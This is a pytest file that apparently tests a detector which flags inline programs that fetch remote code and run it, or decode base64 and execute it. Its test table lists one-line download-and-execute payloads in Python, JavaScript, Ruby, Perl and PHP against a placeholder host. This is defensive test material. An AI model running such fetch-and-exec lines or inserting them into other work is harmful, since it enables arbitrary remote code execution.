"""What an inline program does besides files and shells is known by its calls."""

from __future__ import annotations

import pytest

from holdfast.commandline.inline.marks import DECODED, FETCHED, marks
from tests.support.table import each_of


@pytest.mark.requirement("WRK-14")
@each_of(
    "text, mark",
    [
        ("import urllib.request as u; exec(u.urlopen('https://x.example/a.py').read())", FETCHED),
        ("import requests; exec(requests.get('https://x.example/a.py').text)", FETCHED),
        ("eval(await (await fetch('https://x.example/a.js')).text())", FETCHED),
        ("require 'open-uri'; eval URI.open('https://x.example/a.rb').read", FETCHED),
        ("use LWP::Simple; eval get('https://x.example/a.pl')", FETCHED),
        ("eval(file_get_contents('https://x.example/a.txt'));", FETCHED),
        ("exec(__import__('base64').b64decode('cHJpbnQ='))", DECODED),
        ("exec(urlopen('http://localhost:8000/a.py').read())", ""),
        ("print(requests.get('https://x.example/a.json').json())", ""),
        ("data = fetch('https://x.example'); evaluate(data)", ""),
        ("import base64; print(base64.b64decode('cHJpbnQ='))", ""),
    ],
)
def test_a_text_that_nobody_has_read_is_run(text: str, mark: str) -> None:
    assert list(marks(text)) == ([mark] if mark else [])
